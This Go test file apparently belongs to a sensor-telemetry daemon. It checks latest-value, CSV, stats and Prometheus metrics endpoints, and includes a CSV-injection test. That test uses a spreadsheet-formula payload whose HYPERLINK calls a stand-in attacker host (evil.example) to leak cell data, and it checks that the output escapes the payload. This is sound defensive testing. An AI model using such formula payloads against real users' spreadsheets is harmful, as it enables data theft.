package main

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"
)

// TestRun_LatestCSVAndMetricsReadings: readings published over MQTT to
// `cairn run` come back as each metric's latest value with its unit, as
// CSV, with times from now, and as cairn_reading gauges on /metrics with
// http.metrics_readings; and none of those queries checkpoints the
// journal.
func TestRun_LatestCSVAndMetricsReadings(t *testing.T) {
	d := startDaemon(t, writeConfig(t, t.TempDir(), telemetryConfig(`{temperature: "°C"}`, "  metrics_readings: true\n")))
	pub := mustConnect(t, d.mqtt, "latest-publisher")
	now := time.Now().Truncate(time.Millisecond)
	t1, t2 := now.Add(-20*time.Minute), now.Add(-5*time.Minute)
	for _, m := range []struct {
		at   time.Time
		body string
	}{
		{t1, `"temperature":20.5,"humidity":41`},
		{t2, `"temperature":22`},
		{now.Add(-2 * time.Hour), `"temperature":18`}, // older, and late
	} {
		if err := publish1(pub, "sensors/kitchen/telemetry", fmt.Sprintf(`{"ts":%d,%s}`, m.at.UnixMilli(), m.body)); err != nil {
			t.Fatal(err)
		}
	}
	api := newAPIClient(d.http)
	rfc := func(t time.Time) string { return t.UTC().Format(time.RFC3339Nano) }

	type latest struct {
		TS    string  `json:"ts"`
		Value float64 `json:"value"`
		Unit  string  `json:"unit"`
	}
	want := map[string]latest{
		"temperature": {rfc(t2), 22, "°C"},
		"humidity":    {rfc(t1), 41, ""},
	}
	var doc struct {
		Device string            `json:"device"`
		Latest map[string]latest `json:"latest"`
	}
	if code := api.get(t, "/v1/devices/kitchen/latest", &doc); code != http.StatusOK || doc.Device != "kitchen" || !reflect.DeepEqual(doc.Latest, want) {
		t.Errorf("latest: %d %+v, want %+v", code, doc, want)
	}
	var devs struct {
		Devices []struct {
			Device string            `json:"device"`
			Latest map[string]latest `json:"latest"`
		} `json:"devices"`
	}
	if code := api.get(t, "/v1/devices", &devs); code != http.StatusOK || len(devs.Devices) != 1 || !reflect.DeepEqual(devs.Devices[0].Latest, want) {
		t.Errorf("devices: %d %+v, want kitchen with %+v", code, devs, want)
	}

	csvOf := func(path string) [][]string {
		t.Helper()
		code, body, err := api.fetch(path)
		if err != nil || code != http.StatusOK {
			t.Fatalf("GET %s: %d %v %s", path, code, err, body)
		}
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if err != nil {
			t.Fatalf("GET %s: %v\n%s", path, err, body)
		}
		return rows
	}
	rows := csvOf("/v1/devices/kitchen/readings?metric=temperature&from=-1h&order=asc&format=csv")
	wantRows := [][]string{{"time", "metric", "value", "unit"}, {rfc(t1), "temperature", "20.5", "°C"}, {rfc(t2), "temperature", "22", "°C"}}
	if !reflect.DeepEqual(rows, wantRows) {
		t.Errorf("readings CSV: got %q, want %q", rows, wantRows)
	}
	rows = csvOf("/v1/devices/kitchen/stats?metric=temperature&format=csv") // the last 24 hours
	if len(rows) != 2 || rows[1][1] != "3" || rows[1][2] != "60.5" || rows[1][8] != "°C" {
		t.Errorf("stats CSV: got %q, want one group of 3 readings summing to 60.5 °C", rows)
	}
	for _, bad := range []string{"from=-1x", "from=now%2B", "to=yesterday"} {
		if code, body, err := api.fetch("/v1/devices/kitchen/stats?metric=temperature&" + bad); err != nil || code != http.StatusBadRequest {
			t.Errorf("stats?%s: %d %v %s, want 400", bad, code, err, body)
		}
	}

	code, body, err := api.fetch("/metrics")
	if err != nil || code != http.StatusOK {
		t.Fatalf("/metrics: %d %v", code, err)
	}
	var gauges []string
	for _, line := range strings.Split(string(body), "\n") {
		if strings.HasPrefix(line, "cairn_reading{") {
			gauges = append(gauges, line)
		}
	}
	wantGauges := []string{
		`cairn_reading{device="kitchen",metric="humidity",unit=""} 41`,
		`cairn_reading{device="kitchen",metric="temperature",unit="°C"} 22`,
	}
	if !reflect.DeepEqual(gauges, wantGauges) {
		t.Errorf("/metrics: got %q, want %q", gauges, wantGauges)
	}

	// The queries above read the readings in the journal, where the
	// Writer holds them: none checkpointed it (that comes a minute after
	// the first commit).
	if !strings.Contains(string(body), "\ncairn_store_checkpoints_total 0\n") {
		t.Errorf("/metrics: want cairn_store_checkpoints_total 0 after the queries; got %q", grepLines(body, "cairn_store_checkpoints_total"))
	}
	var status struct {
		Store struct {
			Checkpoints *uint64 `json:"checkpoints"`
		} `json:"store"`
	}
	if code := api.get(t, "/v1/status", &status); code != http.StatusOK || status.Store.Checkpoints == nil {
		t.Errorf("status: %d without store.checkpoints", code)
	} else if n := *status.Store.Checkpoints; n != 0 {
		t.Errorf("status: store.checkpoints %d; want 0 after the queries", n)
	}
}

// TestRun_CSVInjection: a sensor that names its metric and unit like
// spreadsheet formulas (names may begin with '=', '+', '-' or '@') gets
// them into the CSV of /readings and /stats only as text: a single
// quote in front, the cell quoted; its negative value stays a number.
func TestRun_CSVInjection(t *testing.T) {
	d := startCairn(t, cairnBinary.get(t), writeConfig(t, t.TempDir(), telemetryConfig(`{}`, "")))
	pub := mustConnect(t, d.mqtt, "csv-publisher")
	const metric = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	at := time.Now().Add(-time.Minute).Truncate(time.Millisecond)
	sec := fmt.Sprintf("%d.%03d", at.Unix(), at.Nanosecond()/1e6)
	senml := fmt.Sprintf(`[{"n":%q,"u":"@SUM(A1:A9)","v":-3.5,"t":%s},{"n":"-1+1","u":"+1","v":-0.25,"t":%[2]s}]`, metric, sec)
	if err := publish1(pub, "sensors/lab/telemetry", senml); err != nil {
		t.Fatal(err)
	}
	api := newAPIClient(d.http)
	code, body, err := api.fetch("/v1/devices/lab/readings?format=csv&from=-1h&order=asc")
	if err != nil || code != http.StatusOK {
		t.Fatalf("readings CSV: %d %v %s", code, err, body)
	}
	ts := at.UTC().Format(time.RFC3339Nano)
	for _, line := range []string{
		ts + `,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",-3.5,"'@SUM(A1:A9)"`,
		ts + `,"'-1+1",-0.25,"'+1"`,
	} {
		if !strings.Contains(string(body), "\n"+line+"\n") {
			t.Errorf("readings CSV: no line %s in\n%s", line, body)
		}
	}
	code, body, err = api.fetch("/v1/devices/lab/stats?format=csv&metric=" + url.QueryEscape(metric))
	if err != nil || code != http.StatusOK || !strings.Contains(string(body), `,1,-3.5,-3.5,-3.5,12.25,-3.5,0,"'@SUM(A1:A9)"`+"\n") {
		t.Errorf("stats CSV: %d %v\n%s\nwant one group of -3.5 with the unit \"'@SUM(A1:A9)\"", code, err, body)
	}
}
